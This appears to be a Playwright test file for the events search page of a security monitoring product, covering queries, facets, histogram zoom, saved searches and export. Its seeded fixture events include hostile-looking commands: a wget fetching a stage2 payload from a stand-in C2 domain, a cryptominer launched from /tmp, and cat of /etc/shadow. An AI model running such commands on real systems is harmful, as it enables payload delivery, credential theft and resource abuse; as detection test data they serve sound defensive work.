import { readFile } from "node:fs/promises";
import { randomBytes } from "node:crypto";
import { expect, test, type APIRequestContext, type Page } from "@playwright/test";
import { createAgentToken, createTenant, createUser } from "./support/factories";
import { signIn } from "./support/sign-in";

// The Events page against the real ingest API and search engine: each test seeds its own tenant
// with ten runtime events spread over the last five hours.

interface Seeded {
  email: string;
  password: string;
  agent: string;
  domain: string;
  token: string;
}

const MINUTE = 60_000;

function at(minutesAgo: number): string {
  return new Date(Date.now() - minutesAgo * MINUTE).toISOString();
}

async function seed(request: APIRequestContext): Promise<Seeded> {
  const tenant = await createTenant("Events SOC");
  const user = await createUser([{ tenantId: tenant.id, role: "analyst" }]);
  const token = await createAgentToken(tenant.id);
  const tag = randomBytes(3).toString("hex");
  const agent = `edge-${tag}`;
  const domain = `c2-${tag}.evil.test`;
  const base = { agent: { name: agent, hostname: `${agent}.internal` } };
  const longArgs = ["/tmp/.x/miner", "--url", "stratum+tcp://pool.example:4444", "--pass", "x".repeat(400)];
  const events = [
    ...[10, 40, 70, 100].map((m, i) => ({
      ...base,
      id: `net-${tag}-${i}`,
      event_type: "network_connect",
      timestamp: at(m),
      process: { exec_path: "/usr/bin/curl", argv: ["curl", "-fsSL", "https://104.16.24.34/"] },
      payload: { remote_ip: "104.16.24.34", remote_port: 443, protocol: "tcp", family: "ipv4" },
    })),
    ...[20, 130, 200].map((m, i) => ({
      ...base,
      id: `dns-${tag}-${i}`,
      event_type: "domain",
      action: "detect",
      severity: "high",
      timestamp: at(m),
      process: { exec_path: "/usr/bin/wget", argv: ["wget", `http://${domain}/stage2`] },
      payload: { domain, source: "dns" },
    })),
    ...[30, 250].map((m, i) => ({
      ...base,
      id: `exec-${tag}-${i}`,
      event_type: "process_exec",
      severity: "critical",
      timestamp: at(m),
      process: { exec_path: "/tmp/.x/miner", argv: longArgs },
      payload: { is_memfd: true },
    })),
    {
      ...base,
      id: `file-${tag}`,
      event_type: "file_open",
      severity: "medium",
      timestamp: at(290),
      process: { exec_path: "/usr/bin/cat", argv: ["cat", "/etc/shadow"] },
      payload: { path: "/etc/shadow", is_read: true },
    },
  ];
  const res = await request.post("/api/v1/ingest/runtime", { headers: { authorization: `Bearer ${token}` }, data: events });
  expect(res.status()).toBe(200);
  expect((await res.json()).created).toBe(events.length);
  return { ...user, agent, domain, token };
}

const total = (page: Page) => page.getByTestId("events-total");
const rows = (page: Page) => page.getByTestId("events-table").locator("tbody tr");
const queryBox = (page: Page) => page.getByRole("combobox", { name: "Query" });

test("search with the query language, autocomplete and inline syntax errors", async ({ page, request }) => {
  const s = await seed(request);
  await signIn(page, s);
  await expect(total(page)).toHaveText("10 events");
  await expect(rows(page)).toHaveCount(10);
  // The newest first: the curl connection ten minutes ago.
  await expect(rows(page).first()).toContainText("/usr/bin/curl");

  await queryBox(page).fill("exe:/usr/bin/curl");
  await queryBox(page).press("Enter");
  await expect(page).toHaveURL(/q=exe%3A%2Fusr%2Fbin%2Fcurl/);
  await expect(total(page)).toHaveText("4 events");
  await expect(rows(page)).toHaveCount(4);

  // A syntax error is shown under the bar with its column, and nothing is searched.
  await queryBox(page).fill("exe:/usr/bin/curl OR nosuchfield:1");
  await expect(page.getByTestId("query-error")).toContainText('Unknown field "nosuchfield"');
  await expect(page.getByTestId("query-error")).toContainText("column 22");
  await queryBox(page).press("Enter");
  await expect(page).toHaveURL(/q=exe%3A%2Fusr%2Fbin%2Fcurl$/);

  // Field names, then values, from the suggestion list with the keyboard.
  await queryBox(page).fill("sever");
  const options = page.getByRole("listbox", { name: "Suggestions" }).getByRole("option");
  await expect(options.first()).toHaveText(/severity:/);
  await queryBox(page).press("Tab");
  await expect(queryBox(page)).toHaveValue("severity:");
  await queryBox(page).pressSequentially("cr");
  await expect(options).toHaveCount(1);
  await queryBox(page).press("ArrowDown");
  await queryBox(page).press("Enter");
  await expect(queryBox(page)).toHaveValue("severity:critical ");
  await queryBox(page).press("Enter");
  await expect(total(page)).toHaveText("2 events");
  // Long command lines are truncated, with the full value on hover.
  await expect(rows(page).first().locator(`[title*="${"x".repeat(400)}"]`)).toHaveCount(1);

  // Values of a free-text facet field come from the server.
  await queryBox(page).fill("domain:c2");
  await expect(options.first()).toContainText(s.domain);
  await queryBox(page).press("Escape");
  await expect(page.getByRole("listbox", { name: "Suggestions" })).toHaveCount(0);
});

test("include and exclude facet values, shown as removable chips", async ({ page, request }) => {
  const s = await seed(request);
  await signIn(page, s);
  const facets = page.getByTestId("facets");
  await expect(facets.getByRole("region", { name: "Agent" })).toContainText(s.agent);
  await expect(facets.getByRole("button", { name: "Include Severity: high", exact: true })).toContainText("3");

  await facets.getByRole("button", { name: "Include Severity: high", exact: true }).click();
  await expect(page).toHaveURL(/f=severity%3Ahigh/);
  await expect(total(page)).toHaveText("3 events");
  // Standard faceting: the severity facet still counts the other severities.
  await expect(facets.getByRole("button", { name: "Include Severity: low", exact: true })).toContainText("4");
  const chips = page.getByTestId("filter-chips");
  await expect(chips.locator('[data-mode="include"]')).toHaveText(/Severity: high/);

  await chips.getByRole("button", { name: "Remove filter Severity: high" }).click();
  await expect(total(page)).toHaveText("10 events");

  await facets.getByRole("button", { name: "Include Type: flow", exact: true }).click({ modifiers: ["Alt"] });
  await expect(page).toHaveURL(/x=type%3Aflow/);
  await expect(total(page)).toHaveText("6 events");
  await expect(chips.locator('[data-mode="exclude"]')).toContainText("NOT");

  await facets.getByRole("button", { name: "Exclude Severity: critical", exact: true }).click();
  await expect(total(page)).toHaveText("4 events");
  await chips.getByRole("button", { name: "Clear filters" }).click();
  await expect(total(page)).toHaveText("10 events");
});

test("dragging over the histogram zooms into that time range", async ({ page, request }) => {
  const s = await seed(request);
  await signIn(page, s);
  await expect(total(page)).toHaveText("10 events");
  await expect(page.getByTestId("histogram-interval")).toHaveText(/per \d+[mhd]/);

  const plot = page.getByTestId("histogram").locator(".recharts-cartesian-grid");
  const box = (await plot.boundingBox())!;
  const y = box.y + box.height / 2;
  await page.mouse.move(box.x + box.width * 0.6, y);
  await page.mouse.down();
  await page.mouse.move(box.x + box.width * 0.8, y, { steps: 8 });
  await page.mouse.move(box.x + box.width - 2, y, { steps: 8 });
  await page.mouse.up();

  await expect(page).toHaveURL(/from=.*&to=/);
  const url = new URL(page.url());
  const span = Date.parse(url.searchParams.get("to")!) - Date.parse(url.searchParams.get("from")!);
  expect(span).toBeGreaterThan(0);
  expect(span).toBeLessThan(12 * 60 * MINUTE);
  await expect(page.getByTestId("absolute-range")).toBeVisible();
  await expect(page.getByRole("group", { name: "Time range" }).getByRole("button", { pressed: true })).toHaveCount(0);
  // The last five hours are inside the zoomed window.
  await expect(total(page)).toHaveText("10 events");

  // Back returns to the 24-hour view.
  await page.goBack();
  await expect(page.getByRole("button", { name: "24 h", pressed: true })).toBeVisible();
});

test("a row opens the event, and a copied link reproduces the view", async ({ page, request, context }) => {
  const s = await seed(request);
  await context.grantPermissions(["clipboard-read", "clipboard-write"]);
  await signIn(page, s);
  await page.getByTestId("facets").getByRole("button", { name: "Include Kind: detections", exact: true }).click();
  await queryBox(page).fill("wget");
  await queryBox(page).press("Enter");
  await expect(total(page)).toHaveText("3 events");
  await page.getByRole("button", { name: "Columns" }).click();
  // The URL is the state: the box shows checked once the URL has the column.
  await page.getByTestId("column-chooser").getByLabel("Event id").click();
  await expect(page).toHaveURL(/cols=/);
  await expect(page.getByTestId("column-chooser").getByLabel("Event id")).toBeChecked();

  await page.getByRole("button", { name: "Copy link" }).click();
  await expect(page.getByRole("button", { name: "Link copied" })).toBeVisible();
  const link = await page.evaluate(() => navigator.clipboard.readText());
  expect(link).toContain("f=kind%3Adetections");

  const other = await context.newPage();
  await other.goto(link);
  await expect(other.getByTestId("events-total")).toHaveText("3 events");
  await expect(other.getByRole("combobox", { name: "Query" })).toHaveValue("wget");
  await expect(other.getByTestId("filter-chips")).toContainText("Kind: detections");
  await expect(other.getByTestId("events-table").getByRole("columnheader", { name: "Event id" })).toBeVisible();
  await other.close();

  const first = rows(page).first();
  const id = await first.getAttribute("data-row-id");
  await first.click();
  await expect(page).toHaveURL(new RegExp(`/events/${id}\\?back=`));
  await expect(page.locator("main")).toContainText("domain");
  await expect(page.locator("main")).toContainText(s.domain);
});

test("save, open, rename and delete a search", async ({ page, request }) => {
  const s = await seed(request);
  await signIn(page, s);
  await queryBox(page).fill("exe:/usr/bin/curl");
  await queryBox(page).press("Enter");
  await expect(total(page)).toHaveText("4 events");

  await page.getByRole("button", { name: "Saved searches" }).click();
  const panel = page.getByTestId("saved-searches");
  await panel.getByLabel("Saved search name").fill("Curl traffic");
  await panel.getByLabel("Share with the tenant").check();
  await panel.getByRole("button", { name: "Save", exact: true }).click();
  const item = panel.getByTestId("saved-search").filter({ hasText: "Curl traffic" });
  await expect(item).toContainText("shared");

  // The same name twice is refused with the API's message.
  await panel.getByLabel("Saved search name").fill("Curl traffic");
  await panel.getByRole("button", { name: "Save", exact: true }).click();
  await expect(panel.getByRole("alert")).toBeVisible();

  await item.getByRole("button", { name: "Rename Curl traffic" }).click();
  await panel.getByLabel("New name").fill("Curl egress");
  await panel.getByLabel("New name").press("Enter");
  const renamed = panel.getByTestId("saved-search").filter({ hasText: "Curl egress" });
  await expect(renamed).toBeVisible();

  // Open it from another search.
  await page.keyboard.press("Escape");
  await page.getByRole("button", { name: "Clear query" }).click();
  await queryBox(page).press("Enter");
  await expect(total(page)).toHaveText("10 events");
  await page.getByRole("button", { name: "Saved searches" }).click();
  await renamed.getByRole("link", { name: "Curl egress" }).click();
  await expect(total(page)).toHaveText("4 events");
  await expect(queryBox(page)).toHaveValue("exe:/usr/bin/curl");

  await page.getByRole("button", { name: "Saved searches" }).click();
  await renamed.getByRole("button", { name: "Delete Curl egress" }).click();
  await renamed.getByRole("button", { name: "Confirm delete" }).click();
  await expect(panel.getByTestId("saved-search")).toHaveCount(0);
});

test("export the current search as NDJSON and CSV", async ({ page, request }) => {
  const s = await seed(request);
  await signIn(page, s);
  await page.getByTestId("facets").getByRole("button", { name: "Include Severity: low", exact: true }).click({ modifiers: ["Alt"] });
  await expect(total(page)).toHaveText("6 events");

  await page.getByRole("button", { name: "Export", exact: true }).click();
  const ndjsonDownload = page.waitForEvent("download");
  await page.getByTestId("export-menu").getByRole("button", { name: "NDJSON" }).click();
  const ndjson = await ndjsonDownload;
  expect(ndjson.suggestedFilename()).toMatch(/\.ndjson$/);
  const lines = (await readFile((await ndjson.path())!, "utf8")).split("\n").filter(Boolean);
  expect(lines).toHaveLength(6);
  expect(lines.map((l) => JSON.parse(l).severity)).not.toContain("low");
  await expect(page.getByTestId("export-done")).toHaveText("Exported 6 rows");

  await page.getByRole("button", { name: "Export", exact: true }).click();
  const csvDownload = page.waitForEvent("download");
  await page.getByTestId("export-menu").getByRole("button", { name: "CSV" }).click();
  const csv = await csvDownload;
  expect(csv.suggestedFilename()).toMatch(/\.csv$/);
  const csvLines = (await readFile((await csv.path())!, "utf8")).split(/\r?\n/).filter(Boolean);
  expect(csvLines).toHaveLength(1 + 6);
});

test("a facet lists its top ten values, more on demand; the first page's rows are rendered on the server, its counts follow", async ({ page, request, browser, context }) => {
  const s = await seed(request);
  // Twelve more domains, one event each, all newer than the seeded ones.
  const events = Array.from({ length: 12 }, (_, i) => ({
    id: `more-${s.agent}-${i}`,
    event_type: "domain",
    timestamp: at(5 + i),
    agent: { name: s.agent },
    process: { exec_path: "/usr/bin/dig", argv: ["dig", `host-${i}.example.test`] },
    payload: { domain: `host-${String(i).padStart(2, "0")}.example.test`, source: "dns" },
  }));
  const res = await request.post("/api/v1/ingest/runtime", { headers: { authorization: `Bearer ${s.token}` }, data: events });
  expect(res.status()).toBe(200);

  await signIn(page, s);
  const domainFacet = page.getByTestId("facets").getByRole("region", { name: "Domain" });
  await expect(domainFacet.getByRole("button", { name: /^Include Domain: / })).toHaveCount(10);
  // The most frequent first: the seeded C2 domain has three events.
  await expect(domainFacet.getByRole("button", { name: /^Include Domain: / }).first()).toContainText(s.domain);
  await domainFacet.getByRole("button", { name: "More Domain values" }).click();
  await expect(domainFacet.getByRole("button", { name: /^Include Domain: / })).toHaveCount(13);
  await domainFacet.getByRole("button", { name: "Fewer Domain values" }).click();
  await expect(domainFacet.getByRole("button", { name: /^Include Domain: / })).toHaveCount(10);

  const noScript = await browser.newContext({ javaScriptEnabled: false, storageState: await context.storageState() });
  const html = await noScript.newPage();
  await html.goto("/events?q=dig");
  await expect(html.getByTestId("events-table").locator("tbody tr")).toHaveCount(12);
  await noScript.close();
  // The counts are streamed after the rows, in the same response, for the page's script.
  await page.goto("/events?q=dig");
  await expect(page.getByTestId("events-total")).toHaveText("12 events");
});

test("an empty range offers to widen it, and a refused search shows the API's detail", async ({ page, request }) => {
  const s = await seed(request);
  await signIn(page, s);
  await page.getByRole("button", { name: "15 m", exact: true }).click();
  await expect(total(page)).toHaveText("1 event");
  await page.goto("/events?range=15m&f=severity:critical");
  await expect(page.getByTestId("no-events")).toBeVisible();
  await page.getByTestId("no-events").getByRole("button", { name: "Widen to 1h" }).click();
  await expect(total(page)).toHaveText("1 event");
  await expect(page).toHaveURL(/range=1h/);

  // Syntax errors never reach the server from the bar; a hand-edited URL does, and is a 400.
  await page.goto("/events?q=port%3A%3Eabc");
  await expect(page.getByTestId("search-error")).toContainText("The query cannot run");
  await expect(page.getByTestId("search-error")).toContainText("(column 7)");
  await expect(page.getByTestId("query-error")).toBeVisible();
  // Nothing is counted for a search that did not run: no endless "Counting…".
  await expect(total(page)).toHaveText("Not counted");
  await expect(page.getByTestId("counts-failed")).toContainText("The search did not run");
  await expect(page.getByTestId("facets").getByRole("region", { name: "Severity" })).toContainText("not counted");
});

test("counts that fail say so and can be retried, while the rows stay", async ({ page, request }) => {
  const s = await seed(request);
  let failCounts = true;
  // The aggregates request is the search that asks for the histogram; fail it as a timed-out count would.
  await page.route("**/api/v1/events/search", async (route) => {
    const body = route.request().postDataJSON() as { histogram?: unknown };
    if (failCounts && body.histogram) {
      await route.fulfill({
        status: 503,
        contentType: "application/problem+json",
        body: JSON.stringify({ type: "about:blank", title: "Service Unavailable", status: 503, detail: "the search took longer than 30 s and was cancelled" }),
      });
    } else await route.continue();
  });
  await signIn(page, s);
  // The first render carries its counts from the server; a new range is counted by the browser.
  await page.getByRole("button", { name: "1 h", exact: true }).click();
  await expect(page).toHaveURL(/range=1h/);
  await expect(page.getByTestId("events-table").locator("tbody tr")).toHaveCount(4);
  await expect(page.getByTestId("counts-failed")).toContainText("Counting failed: the search took longer than 30 s");
  await expect(total(page)).toHaveText("Not counted");
  failCounts = false;
  await page.getByRole("button", { name: "Retry counts" }).click();
  await expect(page.getByTestId("counts-failed")).toHaveCount(0);
  await expect(total(page)).toHaveText("4 events");
});
